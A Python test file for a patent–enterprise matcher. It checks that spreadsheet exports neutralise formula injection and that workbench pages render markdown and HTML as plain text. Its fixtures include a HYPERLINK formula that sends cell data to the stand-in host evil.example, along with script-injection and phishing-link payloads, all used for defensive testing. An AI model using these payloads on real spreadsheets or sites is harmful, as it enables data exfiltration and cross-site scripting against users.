"""Data never acts as code on the way out: formula-like cells in the nightly export and the workbench downloads
(CSV and XLSX), characters XLSX refuses, and markdown / HTML in titles, names and notes on the workbench pages."""

from __future__ import annotations

import html
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from matcher.export import NightlyJob
from matcher.export.sheets import FORMULA_START, spreadsheet_safe, write_csv, write_xlsx
from matcher.schema import Kind
from matcher.workbench.charts import most_listed
from matcher.workbench.export import to_csv_bytes, to_xlsx_bytes
from matcher.workbench.highlight import highlight_terms
from matcher.workbench.markup import md, md_code
from test_app import login

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "app.py")
USERS = ROOT / "config" / "users.example.toml"
TRACKING = "matcher/workbench/page_files/tracking.py"

FORMULA = '=HYPERLINK("http://evil.example/x?d="&A1,"点击查看")'
RISKY = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1"]
MARKDOWN = ["![i](http://evil/p.png)", "[点我](http://evil/login)", "**粗体** _斜体_ ~~删~~", "<img src=x onerror=alert(1)>",
            "<b>加粗</b><script>alert(1)</script>", "# 标题\n\n1. 列表\n\n> 引用", "$x^2$ :red[红色] http://evil/a www.evil.cn",
            "| a | b |\n|---|---|\n| 1 | 2 |", "`code` \\*星号\\*", "<div>\n\n![i](http://evil/p.png)\n\n</div>"]
_MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _render(source: str) -> str:
    """The HTML a CommonMark + GFM renderer (as Streamlit's react-markdown) makes of a markdown source."""
    return _MD.render(source)


_TAGS = ("<img", "<a ", "<strong", "<em", "<h1", "<h4", "<ol", "<ul", "<table", "<code", "<script", "<b>", "<blockquote",
         "<s>", "<del", "<mark")


def _shows_literally(source: str, text: str, **own: int) -> None:
    """`source` renders to `text` as plain characters: no image, link, emphasis, heading, list, table, code or tag
    beyond the page's own (`own`: tag name -> how many the page's template renders, e.g. strong=1)."""
    rendered = _render(source)
    assert "http:" not in source and "www." not in source, source  # GFM would autolink these bare (linkify)
    for tag in _TAGS:
        assert rendered.count(tag) == own.get(tag.strip("< "), 0), (tag, source, rendered)
    visible = html.unescape(re.sub(r"<[^>]+>", "", rendered))  # what the browser shows: tags dropped, entities read
    assert " ".join(text.split()) in " ".join(visible.split()), (text, rendered)


# ----------------------------------------------------------------------------- spreadsheets
def test_formula_like_text_is_neutralised_and_numbers_stay_numbers():
    frame = pd.DataFrame({"text": [*RISKY, "正常", None, "a=b", "1-2"],
                          "score": [-0.5, 1.0, -2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
                          "mixed": [-3, "=1", None, 2.5, "x", "@y", "", "z", "-w", 0]})
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist()[:6] == ["'" + v for v in RISKY]
    rest = safe["text"].tolist()[6:]
    assert rest[0] == "正常" and pd.isna(rest[1]) and rest[2:] == ["a=b", "1-2"]  # only a leading character counts
    assert safe["score"].tolist() == frame["score"].tolist() and safe["score"].dtype == float  # -0.5 is a number
    mixed = safe["mixed"].tolist()
    assert mixed[:2] == [-3, "'=1"] and pd.isna(mixed[2]) and mixed[3:] == [2.5, "x", "'@y", "", "z", "'-w", 0]
    assert frame["text"].iloc[0] == FORMULA, "the input frame is left unchanged"
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


def test_csv_and_xlsx_downloads_hold_no_formula_and_survive_control_characters():
    frame = pd.DataFrame({"专利名称": [*RISKY, "备注\x0b含\x00控制\x1f字符", "普通"], "综合分": [-1.25, 0.5, 1, 2, 3, 4, 5, 6]})
    raw = to_csv_bytes(frame)
    assert raw.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back["专利名称"].tolist()[:6] == ["'" + v for v in RISKY]
    assert back["综合分"].iloc[0] == "-1.25"
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame, "推送清单"))).active  # no IllegalCharacterError
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for row in cells for c in row), "a data cell was stored as a formula"
    names = [row[0].value for row in cells]
    assert names[0] == "'" + FORMULA and all(n.startswith("'") for n in names[:6])
    assert names[6] == "备注含控制字符" and names[7] == "普通"
    assert cells[0][1].value == -1.25 and cells[0][1].data_type == "n"


def test_the_nightly_export_neutralises_a_formula_title_in_csv_and_xlsx_and_keeps_parquet_raw(matcher, tmp_path):
    patents = matcher.collection(Kind.PATENT).records
    bait = patents[patents["id"] == "DEMO-P-049"].iloc[0].to_dict()
    bait.update(id="EVIL-P-1", title=FORMULA)  # the demand DEMO-D-001's best patent, renamed
    matcher.index(Kind.PATENT, pd.DataFrame([bait]))
    NightlyJob(matcher, k=3).run(tmp_path)
    out = tmp_path / "matches"
    parquet = pd.read_parquet(out / "enterprise_to_patent.parquet")
    rows = parquet[parquet["target_id"] == "EVIL-P-1"]
    assert len(rows) >= 1 and (rows["target_name"] == FORMULA).all(), "Parquet is a data file: the raw title"
    csv = pd.read_csv(out / "enterprise_to_patent.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert set(csv.loc[csv["target_id"] == "EVIL-P-1", "target_name"]) == {"'" + FORMULA}
    sheet = openpyxl.load_workbook(out / "enterprise_to_patent.xlsx").active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    name_col, id_col = header.index("target_name"), header.index("target_id")
    evil = [row for row in sheet.iter_rows(min_row=2) if row[id_col].value == "EVIL-P-1"]
    assert len(evil) == len(rows)
    assert all(r[name_col].value == "'" + FORMULA and r[name_col].data_type == "s" for r in evil)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    # a patent -> enterprise list names the patent as its query: neutralised there too
    p2e = pd.read_csv(out / "patent_to_enterprise.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert set(p2e.loc[p2e["query_id"] == "EVIL-P-1", "query_name"]) == {"'" + FORMULA}
    # numbers stay numbers in the XLSX
    score_col = header.index("score")
    assert all(isinstance(row[score_col].value, float) for row in sheet.iter_rows(min_row=2))


def test_the_writers_accept_paths_and_buffers(tmp_path):
    frame = pd.DataFrame({"a": ["=1", "b\x0b"]})
    write_csv(frame, tmp_path / "a.csv")
    write_xlsx(frame, tmp_path / "a.xlsx", sheet="x" * 40)
    assert (tmp_path / "a.csv").read_bytes().decode("utf-8-sig").split("\r\n") == ["a", "'=1", "b\x0b", ""]
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["x" * 31] and [c.value for c in book.active["A"]] == ["a", "'=1", "b"]


@pytest.mark.parametrize("rows", [0, 1, 7, 9])
def test_csv_written_block_by_block_is_the_csv_of_the_whole_frame(monkeypatch, tmp_path, rows):
    """Rows are made safe and written a block at a time: the same bytes as the whole frame in one piece (one BOM,
    one header, every number as pandas writes it, line breaks inside cells quoted)."""
    frame = pd.DataFrame({"text": ["=1+1", "多行\r\n文本", "-5", "普通", None, "@x", "a,b", "\"引号\"", "末行"][:rows],
                          "score": [0.1, -0.25, 1e-7, 3.0, float("nan"), 2.5, 0.0, 1.0, 7.125][:rows],
                          "rank": list(range(1, rows + 1))})
    whole = spreadsheet_safe(frame).to_csv(index=False, encoding="utf-8-sig", lineterminator="\r\n").encode("utf-8-sig")
    monkeypatch.setattr("matcher.export.sheets.CSV_BLOCK", 3)
    write_csv(frame, tmp_path / "blocks.csv")
    buffer = io.BytesIO()
    write_csv(frame, buffer)
    assert (tmp_path / "blocks.csv").read_bytes() == buffer.getvalue() == whole


def test_xlsx_text_that_looks_like_a_link_or_a_number_stays_text():
    texts = ["https://example.com/p?id=1", "mailto:a@b.cn", "contact@example.com", "0571-8888", "00123", "1e5"]
    frame = pd.DataFrame({"text": texts, "n": range(len(texts))})
    buf = io.BytesIO()
    write_xlsx(frame, buf)
    cells = list(openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows(min_row=2))
    assert [row[0].value for row in cells] == texts
    assert all(row[0].data_type == "s" and row[0].hyperlink is None for row in cells), "text became a link or number"
    assert [row[1].value for row in cells] == list(range(len(texts)))


# ----------------------------------------------------------------------------- markdown
@pytest.mark.parametrize("text", MARKDOWN)
def test_md_shows_markdown_and_html_literally_in_markdown_and_inside_html_blocks(text):
    _shows_literally(f"**备注：{md(text)}**", text, strong=1)
    _shows_literally(f"#### #1 {md(text)}", " ".join(text.split()), h4=1)
    marked = highlight_terms(text, ["列表", "evil"])
    _shows_literally(f"<div class='mw-text'>{marked}</div>", text, mark=marked.count("<mark>"))


def test_highlighting_still_marks_terms_in_escaped_text():
    out = highlight_terms("**可降解**薄膜 ![i](http://x/p.png)", ["可降解", "薄膜"])
    assert out.count("<mark>") == 2 and "<mark>可降解</mark>" in out and "<mark>薄膜</mark>" in out
    rendered = _render(f"<div class='mw-text'>{out}</div>")
    assert "<img" not in rendered and "<mark>可降解</mark>" in rendered
    assert md(None) == "" and md(float("nan")) == "" and md("普通文本") == "普通文本"


def test_ids_in_code_spans_cannot_break_out():
    for value in ("DEMO-P-049", "a`b", "``x``![i](http://e/p.png)", "`"):
        rendered = _render(f"专利 {md_code(value)}")
        assert "<img" not in rendered and rendered.count("<code>") == 1, rendered
        assert html.unescape(rendered.split("<code>")[1].split("</code>")[0]).strip() == value.strip()
    assert md_code("") == ""


def test_chart_labels_are_text_not_plotly_markup():
    frame = pd.DataFrame({"名称": ['<a href="http://evil">点我</a>'], "编号": ["E<b>1</b>"], "出现清单数": [3]})
    labels = list(most_listed(frame, "企业").data[0].y)
    assert labels and "<a" not in labels[0] and "<b>" not in labels[0] and "&lt;a" in labels[0]


# ----------------------------------------------------------------------------- the workbench pages
@pytest.fixture()
def app_env(monkeypatch, demo_index, cache_dir, tmp_path):
    """The app on the demo index with the demo users and a fresh SQLite tracking database (as tests/test_app.py)."""
    monkeypatch.setenv("MATCHER_INDEX_DIR", str(demo_index))
    monkeypatch.setenv("MATCHER_CACHE_DIR", str(cache_dir))
    monkeypatch.setenv("MATCHER_USERS_FILE", str(USERS))
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'tracking.sqlite'}")
    monkeypatch.delenv("MATCHER_CONFIG", raising=False)
    return f"sqlite:///{tmp_path / 'tracking.sqlite'}"


def _login(who: tuple[str, str]) -> AppTest:
    return login(AppTest.from_file(APP, default_timeout=180), who)


def test_a_note_title_and_name_with_markdown_show_literally_on_the_tracking_page(app_env):
    from matcher.tracking import TrackingStore

    title, name = "**加粗标题** <img src=x onerror=alert(1)>", "[钓鱼](http://evil/login) 企业"
    note, owner = "![i](http://evil/p.png) 已电话联系\n\n# 不是标题", "张三_管理员_"
    store = TrackingStore(app_env)
    item = store.add("DEMO-P-001", "DEMO-D-002", user="editor", patent_title=title, enterprise_name=name, industry="制造业")
    store.update(item.id, item.version, user="editor", note=note, owner=owner)

    at = _login(("viewer", "demo-viewer-2024"))
    at.switch_page(TRACKING).run()
    assert not at.exception, [e.message for e in at.exception]
    heading = [h.value for h in at.subheader]
    assert len(heading) == 1
    _shows_literally(heading[0], f"{title} ↔ {name}")
    notes = [m.value for m in at.markdown if "备注：" in m.value]
    assert len(notes) == 1
    _shows_literally(notes[0], note)
    _shows_literally(notes[0], owner)
    # the raw markdown of the data is nowhere in what the page hands to the markdown renderer
    sources = [m.value for m in at.markdown] + heading + [c.value for c in at.caption]
    assert not [s for s in sources if "![i](" in s or "](http" in s or "<img" in s or "**加粗标题**" in s]
